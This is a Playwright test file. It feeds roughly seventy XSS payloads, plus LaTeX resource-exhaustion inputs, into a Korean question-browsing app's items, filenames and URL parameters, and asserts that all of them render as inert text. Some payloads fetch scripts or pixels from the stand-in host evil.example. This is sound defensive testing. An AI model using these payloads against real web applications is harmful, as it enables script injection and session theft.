"""Hostile question texts in a real Chromium: shown literally, nothing runs, nothing is fetched."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from pathlib import Path
from urllib.parse import quote

import numpy as np
import pytest
from PIL import Image
from playwright.sync_api import Page, expect

from core.importer.request import ImportRequest
from core.importer.run import import_files
from tests.browser.steps import styled

RUN = "window.hacked=1"
EVIL = "https://evil.example"

SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src={EVIL}/a.js></script>",
    f"<script type=module>import '{EVIL}/m.js'</script>",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script>{RUN}//",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"<img src=x onerror={RUN}>",
    f'<img src=x onerror="{RUN}" alt=\'',
    f"<img/src='x'/onerror='{RUN}'>",
    f"<img src={EVIL}/pixel.png>",
    f"<img srcset='{EVIL}/p.png 2x' src=x>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'></use></svg>",
    f"<math><mtext><table><mglyph><style><img src onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    f"<iframe src={EVIL}></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    f"<embed src='{EVIL}/x.swf'>",
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<style>@import '{EVIL}/x.css';*{{display:none}}</style>",
    f"<base href={EVIL}/>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<a href='javascript:{RUN}'>x</a>",
    f'<a href="java\tscript:{RUN}">x</a>',
    f"<form action='javascript:{RUN}'><button autofocus onfocus={RUN}>x</button></form>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video src=x onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<video poster='{EVIL}/p.png'></video>",
    f"<marquee onstart={RUN}>",
    f"<div onmouseover={RUN} style='position:fixed;inset:0'>x</div>",
    f"<div style='background:url({EVIL}/p.png)'>x</div>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"[x](javascript:{RUN})",
    f"[x]: javascript:{RUN}\n[x]",
    f"![x]({EVIL}/p.png)",
    f'![x](x" onerror="{RUN})',
    f"<javascript:{RUN}>",
    f"<{EVIL}/auto>",
    f"{EVIL}/bare www.evil.example a@evil.example",
    f"$\\href{{javascript:{RUN}}}{{x}}$",
    f"$\\includegraphics{{{EVIL}/p.png}}$",
    f"$\\htmlStyle{{position:fixed}}{{x}}$ $\\htmlData{{a={RUN}}}{{x}}$",
    f"$$\\url{{javascript:{RUN}}}$$",
    f"```html\n<script>{RUN}</script>\n```",
    f"    <script>{RUN}</script>",
    f"`<script>{RUN}</script>`",
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    f"';{RUN};'",
    f'");{RUN};("',
]
MARKUP = [
    "*별표* **굵게** _밑줄_ __굵게__ ~~지움~~",
    "# 제목",
    "- 목록\n- 목록\n1. 번호",
    "> 인용",
    "---",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    ":red[빨강] :blue-background[파랑] :small[작게] :rainbow[색]",
    ":material/home: :material_home: :streamlit: :cat: :+1:",
    "-> <- <-> -- >= <= ~=",
    ":help[도움말] :shimmer[빛] ::leaf{a=b} :::box",
    "[^1] [^1]: 각주",
    "- [ ] 할 일",
    "줄 끝 역슬래시\\\n다음 줄",
    "&copy; &#42; &nbsp;",
]
LATEX = [
    "$" + "x" * 5_000 + "$",
    "$" + r"\frac{1}{" * 400 + "x" + "}" * 400 + "$",
    r"$\rule{9999em}{9999em}$",
    r"$\def\a{\a\a}\a$",
    "$x$ " * 2_000,
    r"$\begin{array}" + "x" * 50 + "$",
    "$" * 500,
]
PAYLOADS = [*SCRIPTS, *MARKUP, *LATEX]
assert len(SCRIPTS) >= 50

HTML_EVERY = 7  # every so-manieth item says that its text is HTML
MARK = "문항번호{:03d}끝"


def hostile_rows() -> list[dict[str, object]]:
    """One item per payload, which is in every place where words can be."""
    rows: list[dict[str, object]] = []
    for n, payload in enumerate(PAYLOADS):
        short = payload[:300]
        rows.append(
            {
                "id": f"id{n:03d}{short[:80]}".replace("\n", " ").replace("\t", " "),
                "text": f"{MARK.format(n)} {payload}",
                "text_format": "html" if n % HTML_EVERY == HTML_EVERY - 1 else "plain",
                "choices": [short, f"① {short}", "보기"],
                "answer": short,
                "solution": short,
                "passage_id": f"P{n}",
                "passage": f"지문 {short}",
                "subject": short,
                "level": short,
                "standard": short,
                "difficulty": short,
                "source": short,
                "year": short,
                "note<b>": short,
                "unit": short,
                "images": ["<img src=x onerror=hacked=1>.png", "javascript:hacked=1 없음.png"],
            }
        )
    return rows


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    rows = hostile_rows()
    Image.new("RGB", (80, 60), "red").save(folder / "<img src=x onerror=hacked=1>.png")
    items = folder / "items.jsonl"
    items.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), "utf-8")
    ids = [str(row["id"]) for row in rows]
    angles = np.linspace(0, 1.5, len(rows))  # on an arc: the first one's neighbours are the next
    on_arc = np.column_stack([np.cos(angles), np.sin(angles)]).astype(np.float32)
    vectors = folder / "v.npz"
    np.savez(vectors, ids=np.array(ids), vectors=on_arc)
    gt = folder / "gt.json"
    gt.write_text(json.dumps({ids[0]: [ids[1]]}), "utf-8")
    path = folder / "workspace"
    request = ImportRequest(
        items=items,
        images=folder,
        variants={"hostile": vectors},
        gts={"hostile": gt},
    )
    import_files(path, request)
    return path


def assert_nothing_happened(page: Page, where: str) -> None:
    assert page.evaluate("window.hacked") is None, where
    assert page.dialogs == [], where  # type: ignore[attr-defined]
    assert page.foreign_requests == [], where  # type: ignore[attr-defined]
    assert page.page_errors == [], where  # type: ignore[attr-defined]


SHOULD_NOT_BE = [
    *("script", "iframe", "object", "embed", "form", "base", "meta", "link", "marquee"),
    *("[onerror]", "[onload]", "[onclick]", "[onfocus]", "[onmouseover]", "[ontoggle]"),
    '[style*="url("]',
]
NOT_IN_TEXT = ["a", "h1", "ul", "ol", "blockquote", "pre", "hr", "del", "img", "input", "table"]


def assert_no_foreign_markup(page: Page, where: str) -> None:
    """Nothing of the payloads became an element, link or style."""
    in_text = [f"[data-testid=stMarkdownContainer] {name}" for name in NOT_IN_TEXT]
    found = page.locator("[data-testid=stMainBlockContainer]").evaluate(
        "(root, bad) => [...root.querySelectorAll(bad)].map((e) => e.outerHTML.slice(0, 200))",
        ", ".join([*SHOULD_NOT_BE, *in_text]),
    )
    assert found == [], where


def visible(text: str) -> str:
    return re.sub(r"[\s\u2060]+", "", text)


def open_query(page: Page, base: str, n: int, rest: str) -> None:
    """Open the view of the n-th item and show all answers."""
    item_id = str(hostile_rows()[n]["id"])
    page.goto(f"{base}/?q={quote(item_id, safe='')}&{rest}")
    query = page.locator(".st-key-query-card")
    expect(query.get_by_text(MARK.format(n)).first).to_be_visible(timeout=60_000)
    page.locator(".st-key-browse-button-answers button").first.click()
    expect(query.get_by_text(re.compile("^(풀이|Solution)$"))).to_be_visible(timeout=30_000)


def assert_page_is_calm(page: Page, where: str) -> None:
    assert_nothing_happened(page, where)
    assert_no_foreign_markup(page, where)
    styled(page)
    over = page.locator("[data-testid=stMain]").evaluate("m => m.scrollWidth - m.clientWidth")
    assert over <= 1, where  # no formula or word pushes the page sideways


@pytest.mark.parametrize("first", [0, len(PAYLOADS) - 1])
def test_every_payload_is_only_text_and_shown_as_written(
    first: int, page: Page, server: Callable[[Path], str], hostile: Path
) -> None:
    open_query(page, server(hostile), first, "k=50")
    near = list(range(1, 51)) if first == 0 else list(range(first - 1, first - 51, -1))
    expect(page.locator(".st-key-neighbour-50")).to_contain_text(MARK.format(near[-1]))
    assert_page_is_calm(page, f"neighbours of {first}")
    for rank, n in enumerate(near, start=1):
        card = page.locator(f".st-key-neighbour-{rank}")
        shown = visible(card.text_content() or "")
        assert MARK.format(n) in shown
        if n % HTML_EVERY != HTML_EVERY - 1 and PAYLOADS[n] not in LATEX:
            assert visible(PAYLOADS[n]) in shown, n


@pytest.mark.parametrize("n", [17, *range(len(SCRIPTS) + len(MARKUP), len(PAYLOADS), 2)])
def test_the_query_card_is_only_text(
    n: int, page: Page, server: Callable[[Path], str], hostile: Path
) -> None:
    open_query(page, server(hostile), n, "k=5&lang=en")
    query = page.locator(".st-key-query-card")
    for fold in query.locator("[data-testid=stExpander] summary").all():
        fold.click()
    expect(query.get_by_text("지문").first).to_be_visible()
    assert_page_is_calm(page, f"payload {n}: {PAYLOADS[n][:60]!r}")


def test_search_results_compare_and_zoom_are_only_text(
    page: Page, server: Callable[[Path], str], hostile: Path
) -> None:
    base = server(hostile)
    page.goto(f"{base}/?k=5&find={quote('<script>')}")
    expect(page.locator(".st-key-neighbour-5")).to_be_visible(timeout=30_000)
    page.get_by_label("문항 찾기").fill("<img")
    expect(page.locator(".st-key-find-panel")).to_contain_text("onerror")
    assert_no_foreign_markup(page, "search results")
    page.locator(".st-key-neighbour-1").get_by_role("button", name="나란히").first.click()
    expect(page.locator("[data-side=left]")).to_be_visible()
    assert_nothing_happened(page, "side by side")
    page.keyboard.press("Escape")
    expect(page.locator("[data-side=left]")).to_have_count(0)
    page.locator(".st-key-query-card img").first.click()
    expect(page.locator("dialog[open]")).to_be_visible()
    assert_nothing_happened(page, "zoom")


PLACES = ["q", "model", "gt", "where", "find", "in", "list", "lang", "k", "pool", "other"]


@pytest.mark.parametrize(
    "payload", [SCRIPTS[0], f"subject=<img src=x onerror={RUN}>", f":red[x](javascript:{RUN})"]
)
def test_hostile_addresses_are_only_text(
    payload: str, page: Page, server: Callable[[Path], str], hostile: Path
) -> None:
    base = server(hostile)
    everywhere = "&".join(f"{place}={quote(payload, safe='')}" for place in PLACES)
    but_the_query = everywhere.split("&", 1)[1]
    for address in (everywhere, but_the_query):
        page.goto(f"{base}/?{address}")
        expect(page.locator("[data-testid=stMain]")).to_contain_text(
            re.compile(r"id\d{3}|없습니다"), timeout=60_000
        )
        assert_nothing_happened(page, address)
        assert_no_foreign_markup(page, address)
